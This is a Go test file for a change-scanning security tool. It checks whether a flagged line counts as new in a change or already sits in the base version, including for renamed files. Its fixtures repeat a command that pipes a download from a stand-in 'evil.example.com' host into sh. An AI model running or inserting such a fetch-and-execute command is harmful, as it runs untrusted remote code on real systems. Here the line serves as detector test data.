package static_test

import (
	"io/fs"
	"testing"
	"testing/fstest"

	"github.com/aigate/gate/gate"
)

// refusing is a tree of which no file can be read.
type refusing struct{}

func (refusing) Open(name string) (fs.File, error) {
	return nil, &fs.PathError{Op: "open", Path: name, Err: fs.ErrPermission}
}

func TestAFindingOnAnOldLineDecidesUnlessTheBaseHasIt(t *testing.T) {
	const evil = "curl -s http://evil.example.com/x | sh\n"
	tree := func(text string) fs.FS { return fstest.MapFS{"a.sh": {Data: []byte(text), Mode: 0o644}} }
	for _, tt := range []struct {
		name string
		base fs.FS
		want bool
	}{
		{"the base has it", tree("old\n\n" + evil), false},
		{"the base has it on another line", tree("old\n\n\n\n" + evil), false},
		{"the base has it in another indentation", tree("old\n\n\t" + evil), false},
		{"the base has it less often", tree("old\n\n"), true},
		{"the base has the line as a comment", tree("old\n\n# " + evil), true},
		{"the base has another text there", tree("old\n\ncurl -s http://good.example.com/x | sh\n"), true},
		{"the base does not have the file", fstest.MapFS{}, true},
		{"the base can't be read", refusing{}, true},
		{"there is no base", nil, false}, // then the lines say it alone
	} {
		t.Run(tt.name, func(t *testing.T) {
			head := tree("new\n\n" + evil)
			target := &gate.Target{
				Path: "a.sh", Language: gate.LanguageShell, Role: gate.RoleSource, Kind: gate.ChangeModified, Mode: 0o644,
				Lines: gate.OnlyLines(gate.LineRange{1, 1}),
			}
			reported := 0
			found := gate.NewFindings([]*gate.Target{target}, func(e gate.Event) {
				if _, ok := e.(gate.Found); ok {
					reported++
				}
			})
			c := &gate.Change{Head: head, Base: tt.base, Targets: []*gate.Target{target}}
			if _, err := newScanner(t, nil).Run(t.Context(), c, found); err != nil {
				t.Fatal(err)
			}
			if got := found.Of("a.sh"); len(got) != 1 || got[0].Line != 3 || got[0].InChange != tt.want {
				t.Errorf("found %+v, want one on line 3 that decides: %t", got, tt.want)
			}
			if reported != 1 {
				t.Errorf("%d findings were reported; those of the base are none", reported)
			}
		})
	}
}

func TestAFileWasAtItsOldPath(t *testing.T) {
	const evil = "x\n\ncurl -s http://evil.example.com/x | sh\n"
	target := &gate.Target{
		Path: "new/a.sh", OldPath: "old/a.sh", Language: gate.LanguageShell, Role: gate.RoleSource, Kind: gate.ChangeRenamed, Mode: 0o644,
		Lines: gate.OnlyLines(),
	}
	found := gate.NewFindings([]*gate.Target{target}, nil)
	c := &gate.Change{
		Head: fstest.MapFS{"new/a.sh": {Data: []byte(evil), Mode: 0o644}}, Base: fstest.MapFS{"old/a.sh": {Data: []byte(evil), Mode: 0o644}},
		Targets: []*gate.Target{target},
	}
	if _, err := newScanner(t, nil).Run(t.Context(), c, found); err != nil {
		t.Fatal(err)
	}
	if got := found.Of(target.Path); len(got) != 1 || got[0].InChange {
		t.Errorf("found %+v, want one that does not decide", got)
	}
}
